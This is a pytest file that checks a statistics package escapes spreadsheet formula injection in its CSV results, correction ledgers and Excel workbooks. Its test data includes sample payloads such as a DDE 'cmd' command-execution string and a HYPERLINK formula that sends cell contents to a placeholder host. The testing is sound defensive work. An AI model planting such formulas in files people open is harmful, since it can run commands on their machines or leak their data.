"""No cell that we write is run by a spreadsheet: results, tables, ledger, lists, workbooks; numbers stay numbers."""

import csv
import datetime as dt
import io

import numpy as np
import openpyxl
import pandas as pd
import pytest

from hhp_stats.disclosure.declared import Declared, Row, other
from hhp_stats.files.spreadsheet import frame_from_csv, frame_to_csv, from_csv, runs, to_csv, write_cell
from hhp_stats.intake.ledger import Correction, _correction
from hhp_stats.intake.ledger_file import append_lines
from hhp_stats.intake.write_back import _write
from hhp_stats.publish.bundle import csv_bytes
from hhp_stats.results.frame import COLUMNS, read_results, write_results
from hhp_stats.studies.output import StudyOutput, _Tables
from hhp_stats.synthetic.workbook import Sheet, workbook_bytes

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.invalid/?"&A1,"x")',
    "+1+1",
    "+cmd|'x'!A0",
    "-2+3+cmd|'x'!A0",
    "-A1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0@x",
    "\uff1d1+1",
    "\uff0bA1",
    "\uff0d1",
    "\uff20x",
    "-0.35*A1",
    "-1 to",
    "=",
    "@",
    "+",
    "--1",
    "-1-2",
)
HARMLESS = (
    "",
    "-0.35",
    "-.5",
    "+0.2",
    "-1,218",
    "-12.5%",
    "-1e-05",
    "-0.35 to 0.10",
    "-0.35 (-0.60 to -0.10)",
    "-0.3 [-0.6, 0.1]",
    "-inf",
    "-\u221e",
    "-",
    "--",
    "\u22120.35",
    "\u2014",
    "a=b",
    "1-2",
    "e@example.invalid",
    "'tis",
    "C001.1/2",
    "2019-11-04",
    "'",
)


def unix(text):
    return text.replace("\r", "\n")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_like_a_formula_is_text(text):
    assert runs(text) and to_csv(text) == f"'{unix(text)}" and from_csv(to_csv(text)) == unix(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_intervals_and_words_stay(text):
    assert not runs(text) and to_csv(text) == text and from_csv(text) == text


@pytest.mark.parametrize("text", [f"{marks}{text}" for marks in ("'", "''") for text in FORMULAS])
def test_a_text_that_has_the_mark_already_comes_back_too(text):
    assert to_csv(text) == f"'{unix(text)}" and from_csv(to_csv(text)) == unix(text)


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_a_frame_comes_back_and_no_cell_of_it_runs():
    frame = pd.DataFrame(
        {
            "=heading": [*FORMULAS, None],
            "number": [-0.35, np.nan, *np.arange(len(FORMULAS) - 1.0)],
            "day": pd.Timestamp("2019-11-04"),
            "yes": True,
        }
    )
    written = frame_to_csv(frame)
    assert not any(map(runs, cells(written)))
    back = frame_from_csv(pd.read_csv(io.StringIO(written, newline=""), dtype={"'=heading": "str"}))
    assert back["=heading"].tolist()[:-1] == [unix(text) for text in FORMULAS] and pd.isna(back["=heading"].iloc[-1])
    assert back["number"].iloc[0] == -0.35
    assert written.splitlines()[1].split(",")[1:] == ["-0.35", "2019-11-04", "True"]
    assert frame["=heading"].tolist()[:-1] == list(FORMULAS)  # its argument stays


def planted(formula):
    row = dict.fromkeys(COLUMNS, np.nan) | dict.fromkeys(("study", "outcome", "estimand", "status"), "x")
    frame = pd.DataFrame(
        [row | {"result_id": "a/b/c/d", "estimate": -0.35, "estimate_label": formula, "note": formula}]
    )
    return frame.reindex(columns=list(COLUMNS))


@pytest.mark.parametrize("formula", FORMULAS[:8])
def test_results_and_tables_of_a_study(tmp_path, formula):
    from hhp_stats.results.frame import _TEXT

    frame = planted(formula)
    texts = [name for name in COLUMNS if name in _TEXT]
    frame[texts] = frame[texts].astype(object).fillna("")
    frame[texts[-1]] = formula
    write_results(frame, tmp_path / "results.csv")
    found = cells((tmp_path / "results.csv").read_text(encoding="utf-8"))
    assert "-0.35" in found and not any(map(runs, found)) and f"'{formula}" in found
    again = read_results(tmp_path / "results.csv")
    assert again[texts[-1]].tolist() == [formula] and again["estimate"].tolist() == [-0.35]
    table = pd.DataFrame({"label": [formula], "difference": [-0.35]})
    (tmp_path / "data/plan").mkdir(parents=True)
    (tmp_path / "data/plan/s.toml").write_text(
        '[disclosure]\nrule = "none"\nreason = "made up"\nthreshold = 5\nzeros = "published"\n', encoding="utf-8"
    )
    (tmp_path / "data/manifest.toml").write_text('status = "synthetic"\n', encoding="utf-8")
    declared = Declared(people=0, columns={"t": {"difference": other()}}, rows={"a": Row(n=None)})
    StudyOutput(study="s", results=again, tables={"t": table}, conduct=(), declared=declared).write(tmp_path)
    folder = tmp_path / ".report/results/s"
    found = cells((folder / "t.csv").read_text(encoding="utf-8"))
    assert found == ["label", "difference", f"'{formula}", "-0.35"]
    assert _Tables(folder)["t"].to_dict("records") == [{"label": formula, "difference": -0.35}]


@pytest.mark.parametrize("formula", [text for text in FORMULAS if text[0] not in "\t\r\n \u00a0"])
def test_ledger_and_index_of_a_bundle(tmp_path, formula):
    line = Correction(
        id="C001",
        received_on="2020-05-31",
        study="goal_setting",
        wave="baseline",
        authority="Kent",
        staff_id="KEN-0009",
        field="illness_days",
        old_value="-4",
        new_value=formula,
        reason=formula,
        requested_by=formula,
    )
    append_lines(tmp_path / "corrections.csv", [line])
    with (tmp_path / "corrections.csv").open(encoding="utf-8", newline="") as file:
        _, row = csv.reader(file)
    assert not any(map(runs, row)) and row[7] == "-4"
    assert (_correction(row).reason, _correction(row).requested_by) == (formula, formula)
    assert not any(map(runs, cells(csv_bytes([{"a": formula, "b": "-0.35"}]).decode())))


@pytest.mark.parametrize("formula", FORMULAS)
def test_workbooks(formula):
    book = openpyxl.Workbook()
    for row, write in enumerate(
        (write_cell, lambda cell, value: _write(book.active, cell.row, cell.column, value)), start=1
    ):
        for column, value in enumerate((formula, -0.35, dt.date(2019, 11, 4), None), start=1):
            write(book.active.cell(row=row, column=column), value)
    saved = io.BytesIO()
    book.save(saved)
    made = workbook_bytes(
        sheet=Sheet(
            name="Return", above=[["Local Authority:", formula]], headings=[formula], rows=[[formula], [-0.35]]
        ),
        title="t",
        subject="s",
        description="d",
        written=dt.date(2026, 1, 1),
    )
    for content in (saved.getvalue(), made):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        found = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
        assert not [cell for cell in found if cell.data_type == "f"]
        texts = [cell for cell in found if isinstance(cell.value, str) and cell.value != "Local Authority:"]
        assert texts and all(cell.quotePrefix for cell in texts)
        assert -0.35 in [cell.value for cell in found if cell.data_type == "n"]
